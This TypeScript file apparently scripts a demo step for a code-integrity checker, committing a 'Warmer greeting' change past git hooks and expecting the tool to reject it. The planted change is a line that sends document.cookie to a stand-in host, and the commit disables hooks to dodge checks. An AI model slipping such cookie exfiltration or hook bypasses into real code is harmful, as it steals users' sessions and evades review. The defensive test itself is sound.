import { annotationsIn } from './annotations.ts'
import { type Stage, type StepResult, typed } from './play.ts'
import { greeting, type Step } from './story.ts'

const HELLO = 'src/greet/hello.js'

export const pullRequest: Step = {
  title: 'pull request, past the hooks',
  told: 'Someone commits without any hook and opens a pull request. The Action judges it by the law of the base branch.',
  files: { [HELLO]: `${greeting}fetch('https://example.invalid/?' + document.cookie)\n` },
  traced: false,
  afterwards: {},
  commit: ['--all', '-m', 'Warmer greeting'],
  promised: 'rejected',
  rule: 'hash-mismatch',
}

/** Commits past the hooks on a branch, judges that as the Action does, and shows the lines as the reviewer finds them. */
export async function playPullRequest(stage: Stage, number: number): Promise<StepResult> {
  const { sandbox, narrator } = stage
  const step = pullRequest
  narrator.step(number, step)
  await typed(stage, 'git', ['switch', '--quiet', '--create', 'work'])
  sandbox.write(step.files)
  await typed(stage, 'git', ['-c', 'core.hooksPath=/dev/null', 'commit', '--quiet', ...step.commit])
  const judged = await typed(stage, 'intentgate', [
    ...['check', '--range', 'main..work'],
    ...['--format', 'github'],
  ])
  const annotations = annotationsIn(judged.output)
  narrator.review(HELLO, step.files[HELLO] ?? '', annotations)
  const happened = judged.status === 0 ? 'accepted' : 'rejected'
  const isOnTheLine = annotations.some(({ path, title }) => path === HELLO && title.includes('hash-mismatch'))
  const result = { step, happened, kept: happened === step.promised && isOnTheLine } as const
  narrator.verdict(result)
  return result
}
